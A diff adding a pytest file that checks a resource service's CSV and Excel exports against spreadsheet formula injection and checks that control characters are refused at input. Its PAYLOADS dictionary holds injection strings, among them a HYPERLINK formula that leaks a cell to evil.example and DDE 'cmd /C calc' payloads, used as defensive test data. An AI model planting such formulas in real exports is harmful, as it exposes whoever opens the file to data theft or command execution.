@@ -1,0 +1,175 @@
+"""Exports a spreadsheet opens safely (no formula runs, no control character breaks the
+file), and text with control characters is refused where it enters."""
+
+from __future__ import annotations
+
+import io
+
+import openpyxl
+import pandas as pd
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy import update
+
+from geo_service.api import create_app
+from geo_service.auth import hash_password
+from geo_service.config import ServiceSettings
+from geo_service.importers import (
+    ImportContext,
+    export_bytes,
+    parse_resources,
+    read_resource_table,
+)
+from geo_service.outputs import csv_writer, spreadsheet_cell, unquote_cell
+from geo_service.resources import (
+    Resource,
+    ResourceFields,
+    ResourceValidationError,
+    validate_resource,
+)
+from geo_service.store.schema import resources
+from geo_service.store.testing import fresh_store
+
+PAYLOADS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+    "description": "+cmd|' /C calc'!A0",
+    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "how_to_apply": "-2+3+cmd|' /C calc'!A0",
+    "target_users": "'=already quoted once",
+    "operator": "'quoted, but not a formula",
+}
+
+
+def resource(**kw) -> Resource:
+    data = {"id": "r-1", "name": "サロン", "category": "サロン", "lon": 130.69, "lat": 33.65,
+            "contact": {"tel": "-"}, "fee": {"kind": "paid", "text": "-300円"}}
+    return Resource.model_validate(data | kw)
+
+
+def cells(content: bytes, fmt: str) -> list[object]:
+    """Every cell's stored value (Excel: formulas as their text, with a '=')."""
+    if fmt == "csv":
+        frame = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False,
+                            encoding="utf-8-sig")
+        return [v for row in frame.itertuples(index=False) for v in row]
+    wb = openpyxl.load_workbook(io.BytesIO(content))
+    return [c.value for ws in wb for row in ws.iter_rows(min_row=2) for c in row]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("public", [True, False])
+def test_no_cell_starts_a_formula(fmt, public):
+    content = export_bytes([resource(**PAYLOADS)], fmt, public=public)  # type: ignore[arg-type]
+    values = [v for v in cells(content, fmt) if isinstance(v, str)]
+    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for text in (*PAYLOADS.values(), "-", "-300円"):
+        if not text.startswith("'") or text.startswith("'="):
+            assert "'" + text in values, text
+    assert PAYLOADS["operator"] in values  # not a formula: left as written
+    if fmt == "xlsx":  # nothing is stored as a formula either
+        wb = openpyxl.load_workbook(io.BytesIO(content))
+        assert all(c.data_type != "f" for ws in wb for row in ws.iter_rows() for c in row)
+    assert (130.69 if fmt == "xlsx" else "130.69") in cells(content, fmt)  # numbers stay
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_quoted_export_imports_as_it_was(tmp_path, fmt):
+    original = resource(**PAYLOADS)
+    path = tmp_path / f"out.{fmt}"
+    path.write_bytes(export_bytes([original], fmt, public=False))  # type: ignore[arg-type]
+    report = parse_resources(read_resource_table(path), ImportContext())
+    assert report.ok, report.summary()
+    again = report.accepted[0][1]
+    for name, text in PAYLOADS.items():
+        assert getattr(again, name) == text
+    assert again.contact.tel == "-" and again.fee.text == "-300円"
+
+
+@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''-", "-", "@", "\tx", "\rx", "plain",
+                                  "'plain", "", "''"])
+def test_unquote_undoes_the_quote(text):
+    assert unquote_cell(spreadsheet_cell(text)) == text
+
+
+def test_numbers_are_not_quoted():
+    assert spreadsheet_cell(-3.5) == -3.5 and spreadsheet_cell(-1) == -1
+    assert spreadsheet_cell(None) is None
+
+
+def test_pipeline_csv_is_safe_too(tmp_path):
+    table = pd.DataFrame({"area_name": ["=cmd|' /C calc'!A0", "川西"], "share": [-0.5, 0.25]})
+    csv_writer(table)(tmp_path / "areas.csv")
+    text = (tmp_path / "areas.csv").read_text(encoding="utf-8-sig")
+    assert "'=cmd" in text and "\n川西,0.25" in text and "-0.5" in text
+
+
+# --------------------------------------------------------------------------- control chars
+
+
+@pytest.mark.parametrize("field,value", [
+    ("name", "見守り\u0001会"), ("kana", "ミマモリ\x1b"), ("name", "tab\there"),
+    ("notes", "備考\x00"), ("address", "住所\n2行目"), ("payment_methods", ["現金", "PayPay\x08"]),
+    ("contact", {"tel": "0948\x0712"}), ("schedule", {"text": "第1\x0c水曜"}),
+    ("fee", {"text": "300円\x7f\x1f"}),
+])
+def test_control_characters_are_refused_naming_the_field(field, value):
+    with pytest.raises(ResourceValidationError) as e:
+        validate_resource({"name": "x", "category": "サロン"} | {field: value}, ResourceFields)
+    (where, _, reason), = e.value.errors
+    assert where.split(".")[0] == field and "control character U+00" in reason
+
+
+def test_multiline_fields_keep_tabs_and_line_breaks():
+    text = "1行目\r\n2行目\n\t字下げ"
+    r = validate_resource({"name": "x", "category": "サロン", "description": text,
+                           "notes": text, "staff_notes": text, "how_to_apply": text,
+                           "schedule": {"text": text}}, ResourceFields)
+    assert r.notes == text.strip() and r.schedule.text == text.strip()
+
+
+def test_import_rows_with_control_characters_are_row_problems(tmp_path):
+    path = tmp_path / "list.csv"
+    path.write_text("名称,カテゴリ,日程備考,備考\n"
+                    "ok,サロン,,\"二行\n目\"\n"
+                    "bad\x01,サロン,,\n"
+                    "ok2,サロン,毎週\x02,\n", encoding="utf-8")
+    report = parse_resources(read_resource_table(path), ImportContext())
+    assert [n for n, _ in report.accepted] == [2]
+    assert [(p.row, p.column) for p in report.problems] == [(3, "名称"), (4, "日程備考")]
+
+
+@pytest.fixture
+def api(tmp_path, monkeypatch):
+    monkeypatch.setattr("geo_service.auth.BCRYPT_ROUNDS", 4)
+    store = fresh_store("sqlite", tmp_path)
+    store.add_user("admin", hash_password("admin-pass-1"), role="admin")
+    settings = ServiceSettings(database_url="sqlite://", data_dir=tmp_path, secret_key="k" * 40)
+    client = TestClient(create_app(settings, store=store))
+    token = client.post("/auth/token", data={"username": "admin", "password": "admin-pass-1"})
+    return client, store, {"Authorization": f"Bearer {token.json()['access_token']}"}
+
+
+def test_api_refuses_control_characters_with_a_422(api):
+    client, _, admin = api
+    body = {"name": "見守り\u0001会", "category": "見守り"}
+    r = client.post("/resources", json=body, headers=admin)
+    assert r.status_code == 422, r.text
+    assert r.json()["detail"]["field"] == "name" and "U+0001" in r.json()["detail"]["reason"]
+    created = client.post("/resources", json=body | {"name": "見守り会"}, headers=admin).json()
+    r = client.patch(f"/resources/{created['id']}", json={"notes": "a\x00b"}, headers=admin)
+    assert r.status_code == 422 and r.json()["detail"]["field"] == "notes"
+
+
+def test_a_stored_control_character_does_not_break_the_exports(api):
+    client, store, admin = api
+    rid = client.post("/resources", json={"name": "見守り会", "category": "見守り",
+                                          "notes": "=1+1"}, headers=admin).json()["id"]
+    stored = store.get(rid).model_dump(mode="json") | {"name": "見守り\u0001会"}
+    with store.engine.begin() as conn:  # as stored before control characters were refused
+        conn.execute(update(resources).where(resources.c.id == rid).values(data=stored))
+    for fmt in ("csv", "xlsx"):
+        for headers in ({}, admin):
+            r = client.get("/resources/export", params={"format": fmt}, headers=headers)
+            assert r.status_code == 200, (fmt, headers)
+            assert "見守り\ufffd会" in cells(r.content, fmt)
+            assert "'=1+1" in cells(r.content, fmt)
